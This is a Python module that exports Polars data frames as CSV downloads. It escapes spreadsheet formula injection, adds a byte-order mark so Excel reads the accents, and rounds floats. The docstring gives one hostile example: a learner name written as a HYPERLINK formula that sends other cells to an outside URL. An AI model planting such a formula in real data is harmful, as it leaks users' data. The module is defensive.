"""CSV files as spreadsheets open them: safely, and with their accents.

A cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a tab or a carriage return) is a formula to
Excel, LibreOffice and Google Sheets, run as the file opens: a learner named
``=HYPERLINK("http://…"&B2)`` would send the educator's other cells away. Such a text cell starts
with an apostrophe instead, which the spreadsheet shows as text (OWASP's advice); numbers are left
alone. The file starts with UTF-8's byte-order mark, without which Excel reads "Ürlaub" as
"Ãœrlaub"; DuckDB, Polars and pandas skip it. Decimal numbers are written to 15 significant digits,
all a 64-bit float holds: a sum of minutes came out as 427.70000000000005, its last digits noise of
the binary fractions it was added up from.
"""

from __future__ import annotations

from typing import Any

import polars as pl

BYTE_ORDER_MARK = "\ufeff"
FORMULA = r"^[=+\-@\t\r]"
SIGNIFICANT_DIGITS = 15


def csv_bytes(frame: pl.DataFrame, **options: Any) -> bytes:
    """``frame`` as a CSV file for a download; ``options`` go to ``DataFrame.write_csv``."""
    text = [name for name, kind in frame.schema.items() if kind == pl.String]
    decimal = [name for name, kind in frame.schema.items() if kind == pl.Float64]
    inert = frame.with_columns(
        *(pl.when(pl.col(name).str.contains(FORMULA)).then("'" + pl.col(name)).otherwise(pl.col(name)).alias(name)
          for name in text),
        *(pl.col(name).round_sig_figs(SIGNIFICANT_DIGITS) for name in decimal))
    return (BYTE_ORDER_MARK + inert.write_csv(**options)).encode()
